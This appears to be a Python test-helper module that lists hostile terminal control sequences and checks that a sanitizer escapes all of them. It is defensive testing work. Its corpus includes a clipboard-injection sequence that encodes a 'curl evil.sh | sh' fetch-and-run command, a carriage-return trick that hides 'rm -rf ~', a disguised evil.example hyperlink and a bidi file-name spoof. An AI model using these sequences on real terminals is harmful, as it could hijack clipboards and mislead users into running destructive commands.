"""Hostile text for the terminal tests: every class of control sequence a link holder or an agent
could send, and the check that none of it reached a terminal.

The check is independent of tunnel/terminal/sanitize.py: it asks `unicodedata`.
"""

from __future__ import annotations

import re
import sys
import unicodedata
from pathlib import Path

CORPUS: dict[str, str] = {
    "csi clear screen": "\x1b[2J\x1b[H",
    "csi cursor up and erase line": "\x1b[1A\x1b[2K",
    "sgr colour and conceal": "\x1b[31;1mred\x1b[8mhidden\x1b[0m",
    "osc 0 title, bel": "\x1b]0;pwned title\x07",
    "osc 2 title, st": "\x1b]2;pwned title\x1b\\",
    "osc 52 clipboard, bel": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07",
    "osc 52 clipboard, st": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x1b\\",
    "osc 8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\innocent\x1b]8;;\x1b\\",
    "dcs": "\x1bP1$r0m\x1b\\",
    "apc": "\x1b_apc payload\x1b\\",
    "pm": "\x1b^pm payload\x1b\\",
    "sos": "\x1bXsos payload\x1b\\",
    "c1 csi": "\x9b2J",
    "c1 osc and st": "\x9d0;pwned\x9c",
    "c1 dcs, nel, ind": "\x90q\x9c\x85\x84",
    "bidi override": "invoice\u202efdp.exe",
    "bidi embeddings and marks": "\u202a\u202b\u202c\u202d\u200e\u200f\u061c",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069",
    "zero-width and bom": "zero\u200bwidth\u2060joined\ufeff",
    "tag characters": "\U000e0001\U000e0041\U000e0042\U000e007f",
    "line and paragraph separators": "a\u2028b\u2029c",
    "nul, bel, backspace": "a\x00b\x07c\x08d",
    "cr overwrite": "harmless\rrm -rf ~",
    "vt, ff, del": "\x0b\x0c\x7f",
    "lone esc at the end": "tail\x1b",
}
"""Each class of dangerous text, by name. Every value travels over the wire (msgpack, JSON)."""

LONE_SURROGATES = "\ud800x\udfff"
"""Not encodable as UTF-8, so never on the wire; `printable` must still escape them."""

WIRE = "".join(CORPUS.values())
"""The whole corpus as one string, for surfaces that take any length."""

NAMES = (
    "n1\x1b[2J\x1b]0;t\x07\x1b]52;c;eA==\x07\x1b]52;c;eA==\x1b\\\x1b",
    "n2\x1b]8;;http://e/\x1b\\l\x1b]8;;\x1b\\\x1bPq\x1b\\\x1b_a\x1b\\\x1b^p\x1b\\\x1bXs\x1b\\",
    "n3\x9b2J\x9d0;t\x9c\u202eab\u2066c\u2069\u200b\U000e0041\x00\x07\x08\r\x7f\x1b",
)
"""Display names (64 characters at most) that together hold every class of the corpus."""

KEPT = frozenset("\n\t\u200c\u200d")
"""Controls and format characters that may be printed: line breaks, tabs, and the zero-width
(non-)joiner that scripts and emoji need."""


def is_dangerous(char: str) -> bool:
    """Whether a terminal would act on `char`, or not show it: a control, a format character
    (bidi, zero-width, tags), a line or paragraph separator, a surrogate."""
    category = unicodedata.category(char)
    return char not in KEPT and category in ("Cc", "Cf", "Cs", "Zl", "Zp")


def dangerous(text: str) -> list[str]:
    """The dangerous characters of `text`, as escapes (empty when it is safe to print)."""
    return sorted({f"U+{ord(c):04X}" for c in text if is_dangerous(c)})


SHOWN_WHOLE = (
    "prompt",  # a teammate's prompt
    "message",  # the agent's reply
    "thought",
    "plan",
    "tool-title",
    "location",
    "content",
    "diff-new",
    "result",
    "permission",
    "allow-name",
    "reject-id",
    "failure",
)
"""Labels of hostile_acp_agent.py whose whole hostile text every surface shows, escaped."""

SHOWN_CUT = ("input-key", "input-value", "diff-old", "terminal-arg", "update-kind")
"""Labels a surface shows cut (an unknown update's kind) or quoted (JSON input): the label is
enough."""


_DRAWING = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|[\r\x08]")


def without_drawing(text: str) -> str:
    """`text` without what a screen library writes to draw a prompt line: CSI sequences (cursor
    moves, erases, colours, modes), carriage returns and backspaces.

    What is left must hold no control: a hostile string that reached the terminal unescaped
    would leave more than a CSI, since each one the agent sends holds every class of the corpus
    (OSC, DCS, APC, C1 controls, bidi, tags) together.
    """
    return _DRAWING.sub("", text)


def assert_every_label_shown_escaped(
    text: str, extra: tuple[str, ...] = (), markdown: tuple[str, ...] = ()
) -> None:
    """Every labelled hostile string of the agent reached `text` escaped, none raw. Labels in
    `markdown` were rendered as markdown, which may drop a backslash of a pair: the label is
    enough."""
    from tunnel.terminal.sanitize import printable

    shown = printable(WIRE)
    for label in (*SHOWN_WHOLE, *extra):
        if label in markdown:
            assert f"<{label}>" in text, label
        else:
            assert f"<{label}>{shown}" in text, label
    # A command's output: what its argument held, which cannot hold NUL.
    assert "<terminal-out>" + printable(WIRE.replace("\x00", "")) in text
    for label in SHOWN_CUT:
        assert f"<{label}>" in text, label


HOSTILE_AGENT = Path(__file__).with_name("hostile_acp_agent.py")
"""An ACP agent that puts `CORPUS` in every field it sends."""


def hostile_host_argv(relay_url: str, tmp_path: Path, *options: str) -> list[str]:
    """`tunnel host` sharing `HOSTILE_AGENT` over a new workspace in `tmp_path`, plus `options`."""
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / "notes.txt").write_text("milk\n")
    return [
        sys.executable,
        "-m",
        "tunnel.cli",
        "host",
        "--relay",
        relay_url,
        "--agent",
        f"acp:{sys.executable} {HOSTILE_AGENT}",
        "--workspace",
        str(workspace),
        "--log-db",
        str(tmp_path / "log.db"),
        "--key-file",
        str(tmp_path / "key"),
        *options,
    ]


def hostile_commands(refused: str = "the agent refused") -> list[tuple[str, str]]:
    """The console commands that show the agent's hostile answers, each with the regex it prints.

    `refused` is how the surface words the agent's refusal of a mode."""
    return [
        ("/allow nope", r"has no option 'nope'; its options: 1\. <allow-name>"),
        ("/mode", r"mode: default \(<mode-name>"),
        ("/help", r"the agent's commands: /<command-name>.*\(<command-desc>"),
        ("/mode trap", rf"{refused}: <refusal>"),
        ("/allow", r"chose ok"),
    ]
